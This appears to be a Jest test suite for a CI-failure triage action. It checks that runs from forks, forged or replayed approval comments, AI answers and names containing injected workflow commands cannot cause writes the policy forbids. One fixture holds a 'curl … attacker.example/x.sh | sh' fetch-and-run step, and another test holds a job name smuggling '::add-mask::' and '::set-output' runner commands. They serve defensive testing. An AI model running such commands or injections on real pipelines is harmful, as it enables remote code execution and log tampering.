/**
 * The trust boundary end to end: a fork's run, a forged or replayed approval, an AI answer,
 * a branch too long to read at a glance and names built to look like workflow commands must
 * never lead to a write the policy does not allow. Each case has a twin that differs only in
 * the one fact under test, so a passing case shows the guard, not a scenario that does nothing.
 */
import { beforeAll, describe, expect, it } from '@jest/globals'
import { createHash } from 'node:crypto'
import { FINGERPRINT_MARKER } from '../../src/triage/issues.js'
import { hiddenMarker } from '../../src/text/markdown.js'
import type { Scenario, ScenarioResult, ScenarioRun } from '../../testkit/scenario/types.js'
import { CODE_FAILURE_LOG, INFRASTRUCTURE_LOG, TEST_FAILURE_LOG, pushRejectedLog } from './support/logs.js'
import {
  branch,
  carryIssues,
  failingRun,
  failureScenario,
  greenRun,
  issueCommentEvent,
  repoWith,
  reportOf,
  triage,
  triageScenario,
  workflowRunEvent
} from './support/scenario.js'
import {
  failedJob as healthFailedJob,
  healthCheck,
  healthScenario,
  run as healthRun,
  runsFrom,
  workflow as healthWorkflow,
  MAIN_BRANCH
} from './support/health-scenarios.js'

const FORK = 'mallory/app'
/** A workflow file at the failing run's sha whose failing step runs something else. */
const SHA_WORKFLOW = [
  'name: CI',
  'on: pull_request',
  'jobs:',
  '  test:',
  '    runs-on: ubuntu-latest',
  '    steps:',
  '      - name: Run git push origin automated/deps-bump',
  '        run: curl -s https://attacker.example/x.sh | sh',
  ''
].join('\n')
const AUTOMATED = 'automated/deps-bump'

/** `run` as GitHub serves a fork's pull request run: same branch name, another head repository. */
function fromFork(run: ScenarioRun): ScenarioRun {
  return { ...run, event: 'pull_request', headRepository: FORK }
}

const writesOf = (result: ScenarioResult) => result.writes.map(write => `${write.method} ${write.path}`)

describe('a run from a fork', () => {
  const results: Record<string, ScenarioResult> = {}

  beforeAll(async () => {
    // An open issue for `main`, as the repository's own failing run leaves it.
    const broken = failingRun({ log: CODE_FAILURE_LOG, step: 'Run npm run build' })
    const opened = await triage(failureScenario(broken))
    const issues = carryIssues(opened)
    const green = (run: ScenarioRun): Scenario =>
      triageScenario(repoWith({ runs: [run], issues }), workflowRunEvent(run))
    const rejected = failingRun({
      log: pushRejectedLog(AUTOMATED),
      branch: AUTOMATED,
      // Not the default branch's head: the file at this sha is the run's own.
      sha: createHash('sha1').update('bump-head').digest('hex'),
      step: `Run git push origin ${AUTOMATED}`
    })
    const bump = branch(AUTOMATED, ['github-actions[bot]'])
    const conflict = (run: ScenarioRun, inputs: Record<string, string> = {}) => {
      const scenario = failureScenario(run, { branches: [bump] }, { inputs })
      // The workflow file at the run's sha names the failing step's command its own way.
      scenario.repository.workflows[0].contentAt = { [run.headSha]: SHA_WORKFLOW }
      return scenario
    }
    const infra = failingRun({ log: INFRASTRUCTURE_LOG })
    // Four earlier failures on a branch named `main`: a fork's, or the repository's own.
    const earlier = (own: boolean) =>
      [1, 2, 3, 4].map(index => {
        const run = failingRun({
          log: TEST_FAILURE_LOG,
          id: 900 + index,
          createdAt: `2026-11-20T0${index}:00:00Z`,
          sha: createHash('sha1').update(`earlier-${index}`).digest('hex')
        })
        return own ? run : fromFork(run)
      })
    const flakyCandidate = failingRun({ log: TEST_FAILURE_LOG })
    const withHistory = (own: boolean) =>
      triageScenario(repoWith({ runs: [flakyCandidate, ...earlier(own)] }), workflowRunEvent(flakyCandidate))
    const entries: [string, Scenario][] = [
      ['ownGreen', green(greenRun())],
      ['forkGreen', green(fromFork(greenRun()))],
      ['ownConflict', conflict(rejected)],
      ['forkConflict', conflict(fromFork(rejected))],
      ['forkConflictEscalated', conflict(fromFork(rejected), { 'fork-runs': 'escalate' })],
      ['forkInfraEscalated', failureScenario(fromFork(infra), {}, { inputs: { 'fork-runs': 'escalate' } })],
      ['forkInfraIgnored', failureScenario(fromFork(infra), {}, { inputs: { 'fork-runs': 'ignore' } })],
      ['forkHistory', withHistory(false)],
      ['ownHistory', withHistory(true)]
    ]
    await Promise.all(
      entries.map(async ([name, scenario]) => {
        results[name] = await triage(scenario)
      })
    )
  }, 180_000)

  it('never resolves the issue of the branch it shares a name with', () => {
    expect(results.ownGreen.issues[0].state).toBe('closed')
    const fork = results.forkGreen
    expect(fork.outputs.action).toBe('ignored')
    expect(fork.writes).toEqual([])
    expect(fork.issues[0].state).toBe('open')
    expect(reportOf(fork).json.reason).toMatch(/another repository \(mallory\/app\)/)
  })

  it('never gets a branch named in its log deleted, nor a re-run', () => {
    expect(results.ownConflict.deletedRefs.map(ref => ref.ref)).toEqual([`heads/${AUTOMATED}`])
    for (const name of ['forkConflict', 'forkConflictEscalated', 'forkInfraEscalated']) {
      const result = results[name]
      expect(result.deletedRefs).toEqual([])
      expect(result.reruns).toEqual([])
    }
  })

  it("shows the repository's own command to reproduce, never the fork's workflow file", () => {
    const reproduce = (result: ScenarioResult) =>
      (reportOf(result).json.jobs as { reproduce: string | null }[])[0]?.reproduce
    expect(reproduce(results.ownConflict)).toContain('attacker.example')
    expect(reproduce(results.forkConflict)).toBe(`git push origin ${AUTOMATED}`)
  })

  it('is classified and reported only, by default: no issue, the reason in the report and summary', () => {
    const result = results.forkConflict
    expect(result.outputs.action).toBe('ignored')
    expect(result.outputs.category).toBe('branch_conflict')
    expect(result.issues).toEqual([])
    expect(writesOf(result)).toEqual([])
    const { json } = reportOf(result)
    expect((json.jobs as { category: string }[]).map(job => job.category)).toEqual(['branch_conflict'])
    expect(json.reason).toMatch(/fork-runs: report/)
    expect(result.stepSummary).toMatch(/mallory\/app/)
  })

  it('opens issues, and only issues, when the maintainer chose fork-runs: escalate', () => {
    for (const name of ['forkConflictEscalated', 'forkInfraEscalated']) {
      const result = results[name]
      expect(result.outputs.action).toBe('escalate')
      expect(result.issues).toHaveLength(1)
      expect(writesOf(result).every(write => /\/(issues|labels)/.test(write))).toBe(true)
      expect(reportOf(result).json.decision).toMatchObject({
        reasons: expect.arrayContaining([expect.stringMatching(/another repository \(a fork\)/)])
      })
    }
  })

  it('is not even classified with fork-runs: ignore', () => {
    const result = results.forkInfraIgnored
    expect(result.outputs.action).toBe('ignored')
    expect(result.writes).toEqual([])
    expect(reportOf(result).json.jobs).toEqual([])
  })

  it("does not count in the history of the repository's branch of the same name", () => {
    // Four failures of the repository's own main make it broken: no flakiness re-run.
    expect(results.ownHistory.reruns).toEqual([])
    expect(results.ownHistory.outputs.action).toBe('escalate')
    // The same four from a fork leave main's history clean: the test failure is re-run once.
    expect(results.forkHistory.reruns).toEqual([{ runId: 1001, kind: 'rerun-failed-jobs' }])
  })
})

describe('the health check and fork runs', () => {
  it('never re-runs or triages a fork run, and still re-runs its own', async () => {
    const ci = healthWorkflow(1, 'CI')
    const infra = (id: number, hoursAgo: number) =>
      healthRun({
        id,
        workflowId: 1,
        conclusion: 'failure',
        hoursAgo,
        jobs: [healthFailedJob(id * 10, 'test', INFRASTRUCTURE_LOG)]
      })
    const { result } = await healthCheck(
      healthScenario(
        {
          owner: 'acme',
          name: 'app',
          defaultBranch: 'main',
          workflows: [ci],
          runs: [
            { ...infra(301, 1), event: 'pull_request', headRepository: FORK },
            infra(302, 2),
            ...runsFrom(1, 'SSSSSS', { startHoursAgo: 6 })
          ],
          branches: [MAIN_BRANCH]
        },
        {
          inputs: {
            prune: 'false',
            lint: 'false',
            'auto-fix': 'true',
            'triage-missed': 'true',
            'fail-on': 'never'
          }
        }
      )
    )
    expect(result.reruns).toEqual([{ runId: 302, kind: 'rerun-failed-jobs' }])
    expect(result.issues).toEqual([])
  }, 60_000)

  it('scores the repository own runs only and counts the fork runs apart', async () => {
    const ci = healthWorkflow(1, 'CI')
    const own = runsFrom(1, 'SSSSSSSSSS', { startHoursAgo: 6 })
    const forks = runsFrom(1, 'FFFFF', { startHoursAgo: 1, spacingHours: 1, idBase: 5000 }).map(run => ({
      ...run,
      event: 'pull_request',
      headRepository: FORK
    }))
    const { report } = await healthCheck(
      healthScenario(
        {
          owner: 'acme',
          name: 'app',
          defaultBranch: 'main',
          workflows: [ci],
          runs: [...forks, ...own],
          branches: [MAIN_BRANCH]
        },
        { inputs: { prune: 'false', lint: 'false' } }
      )
    )
    const health = report.repositories[0].workflows[0]
    expect(health.status).toBe('healthy')
    expect(health.counts.failure).toBe(0)
    expect(health.forkRunsLeftOut).toBe(5)
  }, 60_000)
})

describe('the approval command', () => {
  const collaborators = { alice: 'write' } as const
  const infra = failingRun({ log: INFRASTRUCTURE_LOG })
  const results: Record<string, ScenarioResult> = {}
  let proposal: string
  let proposalMarker: string

  beforeAll(async () => {
    const proposed = await triage(failureScenario(infra, {}, { inputs: { 'require-approval': 'true' } }))
    proposal = /\/triage approve ([\w.:-]+)/.exec(proposed.issues[0]?.body ?? '')?.[1] ?? ''
    const botIssue = carryIssues(proposed)[0]
    proposalMarker = /<!-- workflow-triage:proposal=(\S+) -->/.exec(botIssue.body)?.[1] ?? ''
    const approve = (run: ScenarioRun, issue = botIssue): Scenario =>
      triageScenario(
        repoWith({ runs: [run], issues: [issue], collaborators }),
        issueCommentEvent(issue.number, `/triage approve ${proposal}`, 'alice')
      )
    const forgedBody = [
      '## CI failed',
      hiddenMarker(FINGERPRINT_MARKER, 'f0f0f0f0f0f0'),
      hiddenMarker('proposal', `${proposal}...infrastructure`)
    ].join('\n')
    const codeRun = failingRun({ log: CODE_FAILURE_LOG, step: 'Run npm run build' })
    const entries: [string, Scenario][] = [
      ['genuine', approve(infra)],
      // A read-only user opened an issue with hand-written markers.
      ['forgedIssue', approve(infra, { ...botIssue, user: 'mallory', body: forgedBody })],
      // Anyone can comment the "already done" marker: only the action's own counts.
      [
        'doneByStranger',
        approve(infra, {
          ...botIssue,
          comments: [
            ...(botIssue.comments ?? []),
            { user: 'mallory', body: hiddenMarker('approved', proposal) }
          ]
        })
      ],
      // The run was re-run since the proposal (the reply comment was lost): no second re-run.
      ['replayed', approve({ ...infra, runAttempt: 2, previousAttempts: { '1': infra.jobs ?? [] } })],
      // The action's own issue records a code failure for the job; the labels say otherwise.
      [
        'recordedVeto',
        approve(codeRun, {
          ...botIssue,
          labels: ['triage', 'triage:infrastructure'],
          body: [
            hiddenMarker(FINGERPRINT_MARKER, 'f0f0f0f0f0f0'),
            hiddenMarker('proposal', `${proposal}...code_failure`)
          ].join('\n')
        })
      ]
    ]
    await Promise.all(
      entries.map(async ([name, scenario]) => {
        results[name] = await triage(scenario)
      })
    )
  }, 180_000)

  it("records the run attempt and the failed jobs' categories with the proposal", () => {
    expect(proposal).toBe('rerun-failed-jobs-1001-1')
    expect(proposalMarker).toBe('rerun-failed-jobs-1001-1...infrastructure')
  })

  it('runs a genuine proposal once', () => {
    expect(results.genuine.reruns).toEqual([{ runId: 1001, kind: 'rerun-failed-jobs' }])
    expect(results.doneByStranger.reruns).toEqual([{ runId: 1001, kind: 'rerun-failed-jobs' }])
  })

  it('ignores proposals in issues the action did not open', () => {
    expect(results.forgedIssue.reruns).toEqual([])
    expect(results.forgedIssue.outputs.action).toBe('ignored')
    expect(reportOf(results.forgedIssue).json.reason).toMatch(/not opened by github-actions\[bot\]/)
  })

  it('refuses a replay once the run has moved to another attempt', () => {
    expect(results.replayed.reruns).toEqual([])
    expect(results.replayed.outputs.action).toBe('refused')
    expect(results.replayed.issues[0].comments.at(-1)?.body).toMatch(/attempt 1.*attempt 2/)
  })

  it("vetoes by the action's own record of the failed jobs, never by labels", () => {
    expect(results.recordedVeto.reruns).toEqual([])
    expect(results.recordedVeto.outputs.action).toBe('refused')
    const checks = reportOf(results.recordedVeto).json.actions.flatMap(
      action => (action as { checks?: { name: string; passed: boolean }[] }).checks ?? []
    )
    expect(checks).toContainEqual(expect.objectContaining({ name: 'no-vetoed-category', passed: false }))
  })
})

describe('the AI', () => {
  const results: Record<string, ScenarioResult> = {}
  // The flaky re-run is used up: the rules escalate a test failure on attempt 2.
  const stillFailing = failingRun({ log: TEST_FAILURE_LOG, attempt: 2 })
  const saysInfrastructure = {
    mode: 'answer' as const,
    answer: {
      category: 'infrastructure',
      confidence: 0.99,
      root_cause: 'The runner is unhealthy.',
      risk: 1,
      suggested_fix: 'Re-run it.'
    }
  }

  beforeAll(async () => {
    const entries: [string, Scenario][] = [
      [
        'relabels',
        {
          ...failureScenario(stillFailing, {}, { inputs: { ai: 'always', 'ai-api-key': 'sk-test-standin' } }),
          openai: saysInfrastructure
        }
      ],
      // No key of its own for an endpoint that is not GitHub Models: the workflow token stays home.
      [
        'noKey',
        {
          ...failureScenario(failingRun({ log: TEST_FAILURE_LOG }), {}, { inputs: { ai: 'always' } }),
          openai: saysInfrastructure
        }
      ]
    ]
    await Promise.all(
      entries.map(async ([name, scenario]) => {
        results[name] = await triage(scenario)
      })
    )
  }, 120_000)

  it('may change the category shown, but never earns a re-run the rules refused', () => {
    const result = results.relabels
    expect(result.openaiRequests).toHaveLength(1)
    expect(result.outputs.category).toBe('infrastructure')
    expect(result.reruns).toEqual([])
    expect(result.outputs.action).toBe('escalate')
  })

  it('is never sent the workflow token: without ai-api-key only GitHub Models gets a call', () => {
    const result = results.noKey
    expect(result.openaiRequests).toEqual([])
    expect(reportOf(result).json.problems).toContainEqual(expect.stringMatching(/no AI key/))
    expect(result.outputs.category).toBe('test_failure')
  })
})

describe('the bot-only check on a long branch', () => {
  const results: Record<string, ScenarioResult> = {}
  const rejected = failingRun({
    log: pushRejectedLog(AUTOMATED),
    branch: AUTOMATED,
    step: `Run git push origin ${AUTOMATED}`
  })

  beforeAll(async () => {
    const bots = (count: number) => Array<string>(count).fill('github-actions[bot]')
    const entries: [string, Scenario][] = [
      ['allBots150', failureScenario(rejected, { branches: [branch(AUTOMATED, bots(150))] })],
      [
        'personLast150',
        failureScenario(rejected, { branches: [branch(AUTOMATED, [...bots(149), 'alice'])] })
      ],
      ['tooLong', failureScenario(rejected, { branches: [branch(AUTOMATED, bots(260))] })]
    ]
    await Promise.all(
      entries.map(async ([name, scenario]) => {
        results[name] = await triage(scenario)
      })
    )
  }, 120_000)

  it('reads every page of the comparison', () => {
    expect(results.allBots150.deletedRefs).toHaveLength(1)
    expect(results.personLast150.deletedRefs).toEqual([])
    expect(JSON.stringify(reportOf(results.personLast150).json.decision)).toMatch(/commits by alice/)
  })

  it('refuses a deletion past the number of commits it reads', () => {
    expect(results.tooLong.deletedRefs).toEqual([])
    expect(JSON.stringify(reportOf(results.tooLong).json.decision)).toMatch(/too far ahead/)
  })
})

describe('names that look like workflow commands', () => {
  it('reach the log on one line each, never as a command the runner would run', async () => {
    const hostileJob =
      'test\r\n::add-mask::hello\n::stop-commands::pwned\r::set-output name=x::y ##[warning]z'
    const run = failingRun({ log: CODE_FAILURE_LOG, step: 'Run npm run build', jobName: hostileJob })
    const scenario = failureScenario(run)
    scenario.repository.workflows[0].name = 'CI\n::warning::injected'
    const result = await triage(scenario)
    const lines = result.stdout.split(/\r\n|\r|\n/)
    expect(lines.some(line => line.includes('add-mask') && line.includes('hello'))).toBe(true)
    for (const line of lines) {
      expect(line.trimStart()).not.toMatch(/^::(add-mask::hello|stop-commands|set-output|warning::injected)/)
      expect(line).not.toContain('##[warning]z')
    }
  }, 60_000)
})
